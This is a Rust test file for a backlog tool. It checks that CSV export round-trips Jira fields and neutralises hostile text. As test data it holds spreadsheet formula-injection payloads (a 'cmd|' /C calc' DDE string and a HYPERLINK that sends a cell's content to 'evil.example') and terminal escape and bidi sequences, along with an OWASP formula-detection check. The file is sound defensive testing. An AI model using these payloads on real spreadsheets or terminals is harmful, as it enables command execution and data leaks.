//! `backlog export backlog --format csv` as a user runs it: every field
//! Jira's CSV can carry comes back through `import` into a fresh workspace,
//! and hostile text (terminal escapes, spreadsheet formulas, quotes, commas,
//! line breaks, Jira's real messy issues) leaves as inert text and reads
//! back as it was.

mod common;

use backlog::domain::text::{for_terminal, is_forbidden};
use backlog::domain::{Item, Workspace};
use common::pty::Env;
use std::collections::{BTreeSet, HashMap};
use std::path::{Path, PathBuf};

fn ranked(ws: &Workspace) -> Vec<&Item> {
    let mut v: Vec<&Item> = ws.live_items().collect();
    v.sort_by(|a, b| a.rank.cmp(&b.rank).then(a.meta.id.cmp(&b.meta.id)));
    v
}

fn write(env: &Env, name: &str, text: &str) -> PathBuf {
    let p = env.dir.path().join(name);
    std::fs::write(&p, text).unwrap();
    p
}

/// A fresh workspace made by `init` with this key prefix.
fn fresh(prefix: &str) -> Env {
    let env = Env::empty();
    std::fs::remove_file(&env.ws).unwrap();
    let out = env.command().args(["init", "--prefix", prefix]).arg(&env.ws).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    env
}

/// The imported item each original key became: the one whose external
/// reference is that key (the CSV's `Issue key`), else the one that kept
/// it as its own key.
fn by_origin<'a>(ws: &'a Workspace, originals: &[&Item]) -> HashMap<String, &'a Item> {
    originals
        .iter()
        .map(|x| {
            let y = ws
                .live_items()
                .find(|y| y.external.iter().any(|r| r.system == "jira" && r.key == x.key))
                .or_else(|| ws.live_items().find(|y| y.key == x.key))
                .unwrap_or_else(|| panic!("{} was imported", x.key));
            (x.key.clone(), y)
        })
        .collect()
}

/// A cell a spreadsheet would run as a formula (OWASP's list).
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(['=', '+', '-', '@'])
}

fn cells(csv: &str) -> (csv::StringRecord, Vec<csv::StringRecord>) {
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
    let mut rows = r.records().map(Result::unwrap);
    let header = rows.next().unwrap();
    (header, rows.collect())
}

fn col(header: &csv::StringRecord, name: &str) -> usize {
    header.iter().position(|h| h == name).unwrap_or_else(|| panic!("a {name} column"))
}

#[test]
fn the_backlog_as_csv_round_trips_every_field_jira_can_carry() {
    let demo = Env::demo();
    // The demo has assignees, criteria, stories, comments, a link and Jira
    // keys; one item gets every field at once, with formula starters and
    // text that already begins with the guard's `'`.
    demo.cli(&[
        "add",
        "=1+1",
        "--kind",
        "story",
        "--points",
        "5",
        // `--opt=value`: a value that begins with `-` is not a flag.
        "--description=- a list first\n\tand a tabbed line, with \"quotes\"",
        "--as-a",
        "@channel admin",
        "--i-want",
        "+cmd|' /C calc'!A0",
        "--so-that",
        "'quoted' reasons stay",
        "--ac",
        "=SUM(A1) is shown as text",
        "--ac",
        "[x] looks boxed but is not met",
        "--ac=- starts with a dash",
        "--label",
        "+plus",
        "--label",
        "@at",
        "--label",
        "'apos",
        "--assignee=-dash person",
        "--external",
        "github:owner/repo#12",
        "--external",
        "jira:PAY-7",
        "--parent",
        "TAN-13",
        "--sprint",
        "Sprint 24",
    ]);
    let added = demo.read().live_items().find(|i| i.title == "=1+1").unwrap().key.clone();
    demo.cli(&["edit", &added, "--ac-met", "1"]);
    demo.cli(&["add", "'=already guarded by hand"]);
    demo.cli(&["add", "'Logging and Debugging' document is out-of-date."]);
    let out = demo
        .command()
        .env("USER", "=O'Brien")
        .args(["comment", &added, "--", "-1 from me; see", "\"x,y\"\nnext line"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    demo.cli(&["comment", &added, "@team first"]);
    demo.cli(&["comment", &added, "=HYPERLINK(\"http://evil\",\"x\") second"]);
    demo.cli(&["link", &added, "--blocks", "TAN-2"]);
    demo.cli(&["link", &added, "--blocked-by", "TAN-35"]);

    let csv = demo.cli(&["export", "backlog", "--format", "csv"]);
    let file = write(&demo, "backlog.csv", &csv);
    let copy = fresh("TAN");
    copy.cli(&["import", file.to_str().unwrap()]);

    let (a, b) = (demo.read(), copy.read());
    let xs = ranked(&a);
    let map = by_origin(&b, &xs);
    assert_eq!(b.live_items().count(), xs.len(), "every item arrives, once");
    let origin: HashMap<uuid::Uuid, &str> = map.iter().map(|(k, y)| (y.meta.id, k.as_str())).collect();
    let key_of = |ws: &Workspace, id: uuid::Uuid| ws.item(id).map(|i| i.key.clone());
    let minute = |t: chrono::DateTime<chrono::Utc>| t.timestamp().div_euclid(60);
    for x in &xs {
        let k = &x.key;
        let y = map[k];
        assert_eq!(x.title, y.title, "{k}");
        assert_eq!(x.kind, y.kind, "{k}");
        assert_eq!(x.status, y.status, "{k}");
        assert_eq!(x.estimate, y.estimate, "{k}");
        assert_eq!(x.description, y.description, "{k}");
        assert_eq!(x.story, y.story, "{k}: as a / I want / so that");
        assert_eq!(x.acceptance_criteria, y.acceptance_criteria, "{k}: criteria with met");
        assert_eq!(x.labels, y.labels, "{k}");
        assert_eq!(x.assignee, y.assignee, "{k}");
        // Jira's `date;author;text` has no role and dates to the minute.
        let comments = |i: &Item| -> Vec<(i64, String, String)> {
            i.comments.iter().map(|c| (minute(c.at), c.author.clone(), c.text.clone())).collect()
        };
        assert_eq!(comments(x), comments(y), "{k}: comments keep author, text and time");
        assert_eq!(minute(x.meta.created_at), minute(y.meta.created_at), "{k}: created");
        let blocks = |i: &Item, ws: &Workspace, name: &dyn Fn(uuid::Uuid) -> Option<String>| -> BTreeSet<String> {
            i.blocks.iter().filter(|b| ws.item(**b).is_some_and(Item::is_live)).filter_map(|b| name(*b)).collect()
        };
        assert_eq!(
            blocks(x, &a, &|id| key_of(&a, id)),
            blocks(y, &b, &|id| origin.get(&id).map(|k| k.to_string())),
            "{k}: blocks the same items"
        );
        assert_eq!(
            x.parent.and_then(|p| key_of(&a, p)),
            y.parent.and_then(|p| origin.get(&p).map(|k| k.to_string())),
            "{k}: the same epic"
        );
        let sprint = |ws: &Workspace, i: &Item| i.sprint.and_then(|s| ws.sprint(s)).map(|s| s.name.clone());
        assert_eq!(sprint(&a, x), sprint(&b, y), "{k}: the same sprint");
        // The source keys come back with their URLs; the import adds the
        // CSV's own `Issue key` as the key it syncs by.
        let theirs: Vec<_> = y.external.iter().filter(|r| !(r.system == "jira" && r.key == *k)).cloned().collect();
        let ours: Vec<_> =
            x.external.iter().map(|r| backlog::domain::item::ExternalRef { imported: None, ..r.clone() }).collect();
        assert_eq!(ours, theirs, "{k}: external references");
    }
    let order: Vec<&str> = ranked(&b).iter().map(|y| origin[&y.meta.id]).collect();
    assert_eq!(order, xs.iter().map(|x| x.key.as_str()).collect::<Vec<_>>(), "the same order");
    // The item with everything really had everything.
    let full = map[&added];
    assert_eq!(full.title, "=1+1");
    assert_eq!((full.comments.len(), full.blocks.len()), (3, 1));
    assert_eq!(full.comments[0].author, "=O'Brien");
    assert!(full.acceptance_criteria[0].met && !full.acceptance_criteria[1].met);
    assert!(map.values().any(|y| y.title == "'=already guarded by hand"));
}

/// Items from ../shared/data/jira (long descriptions with code and tabs,
/// non-ASCII text, quotes, commas, a title that begins with `'`,
/// descriptions that begin with `-` or `+`), when the data is there.
fn real_jira_issues(env: &Env) {
    for name in ["mesos.csv", "jirasoftware.csv"] {
        let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/data/jira").join(name);
        if p.is_file() {
            env.cli(&["import", p.to_str().unwrap()]);
        } else {
            eprintln!("skipping {}: not there (the CI clone sits beside shared/)", p.display());
        }
    }
}

/// Text the CLI would clean on the way in, written straight into the file
/// as a hand edit or another tool could.
const ESCAPE_TITLE: &str = "\u{1b}]0;PWNED\u{7}renamed terminal";
const HOSTILE: [(&str, &str); 8] = [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "  =cmd|' /C calc'!A0 after blanks"),
    ("+cmd|' /C calc'!A0", "\t=1+1 after a tab"),
    ("-2+3", "\r\n@SUM(1+1) after a line break"),
    ("@SUM(A1:A9)", "-- a list\n- item, with \"quotes\", commas"),
    ("'already quoted'", "'=1 begins with the guard"),
    ("Title, with \"quotes\", and commas", "line one\nline two\n\n\"quoted\" line, comma"),
    ("\u{9b}31mC1 and \u{202e}bidi override", "desc \u{1b}[2J clears the screen\u{7}"),
    ("DEL\u{7f} and NUL\u{0} in a title", "\u{202e}reversed"),
];

#[test]
fn hostile_text_leaves_a_csv_export_as_inert_text_and_reads_back() {
    let env = Env::empty();
    real_jira_issues(&env);
    for _ in 0..=HOSTILE.len() {
        env.cli(&["add", "placeholder", "--label", "x"]);
    }
    // Hand edits: titles, descriptions, a label, an assignee and a sprint
    // no command would have let through.
    let mut doc: serde_json::Value = serde_json::from_slice(&std::fs::read(&env.ws).unwrap()).unwrap();
    let items = doc["items"].as_array_mut().unwrap();
    let mut placeholders = items.iter_mut().filter(|i| i["title"] == "placeholder");
    let first = placeholders.next().unwrap();
    first["title"] = ESCAPE_TITLE.into();
    first["labels"] = serde_json::json!(["=label", "\u{1b}[31mred"]);
    first["assignee"] = "@boss\u{7}".into();
    for (item, (title, description)) in placeholders.zip(HOSTILE) {
        item["title"] = title.into();
        item["description"] = description.into();
    }
    std::fs::write(&env.ws, serde_json::to_vec_pretty(&doc).unwrap()).unwrap();
    let original = env.read();
    assert!(original.live_items().any(|i| i.title == ESCAPE_TITLE), "the hand edit is in the file");

    let csv = env.cli(&["export", "backlog", "--format", "csv"]);
    // Nothing a terminal acts on: no escape, bell, C1, bidi control or CR.
    let bad: Vec<char> = csv.chars().filter(|&c| is_forbidden(c) || c == '\r').collect();
    assert!(bad.is_empty(), "control characters in the CSV: {bad:?}");
    let (header, rows) = cells(&csv);
    assert_eq!(rows.len(), original.live_items().count());
    let (summary, points, created) = (col(&header, "Summary"), col(&header, "Story Points"), col(&header, "Created"));
    for row in &rows {
        for cell in row {
            let start: String = cell.chars().take(60).collect();
            assert!(!is_formula(cell), "a spreadsheet would run {start:?}…");
        }
        assert!(
            row[points].is_empty() || row[points].parse::<u32>().is_ok(),
            "points stay numbers: {:?}",
            &row[points]
        );
        assert!(row[created].starts_with(|c: char| c.is_ascii_digit()), "{:?}", &row[created]);
    }
    let titles: Vec<&str> = rows.iter().map(|r| &r[summary]).collect();
    assert!(titles.contains(&"\\u{1b}]0;PWNED\\u{7}renamed terminal"), "shown, not obeyed");
    assert!(titles.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"), "neutralised");
    assert!(titles.contains(&"''already quoted'"), "a leading ' of the text's own is doubled");
    assert!(titles.contains(&"Title, with \"quotes\", and commas"), "plain text is left alone");

    // Read back: every title and description as it was (control
    // characters as the visible text the export showed).
    let file = write(&env, "hostile.csv", &csv);
    let copy = Env::empty();
    copy.cli(&["import", file.to_str().unwrap()]);
    let back = copy.read();
    let by_ext: HashMap<&str, &Item> = back
        .live_items()
        .flat_map(|y| y.external.iter().filter(|r| r.system == "jira").map(move |r| (r.key.as_str(), y)))
        .collect();
    for x in original.live_items() {
        let y = by_ext.get(x.key.as_str()).unwrap_or_else(|| panic!("{} came back", x.key));
        assert_eq!(y.title, for_terminal(&x.title, false).trim(), "{}", x.key);
        let tabs_kept: Vec<String> = x.description.split('\t').map(|p| for_terminal(p, true).into_owned()).collect();
        assert_eq!(y.description, tabs_kept.join("\t"), "{}", x.key);
        assert_eq!(y.labels, x.labels.iter().map(|l| for_terminal(l, false).into_owned()).collect::<Vec<_>>());
    }
    let escaped = back.live_items().find(|y| y.title.contains("PWNED")).unwrap();
    assert_eq!(escaped.assignee.as_deref(), Some("@boss\\u{7}"));

    // --allow-formulas writes them as they are, still without controls.
    let raw = env.cli(&["export", "backlog", "--format", "csv", "--allow-formulas"]);
    assert!(!raw.chars().any(|c| is_forbidden(c) || c == '\r'));
    let (header, rows) = cells(&raw);
    let summary = col(&header, "Summary");
    assert!(rows.iter().any(|r| &r[summary] == "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"));
    assert!(rows.iter().any(|r| &r[summary] == "'already quoted'"));
    let out = env.command().args(["export", "backlog", "--format", "json", "--allow-formulas"]).output().unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("--allow-formulas is for"), "{out:?}");
}
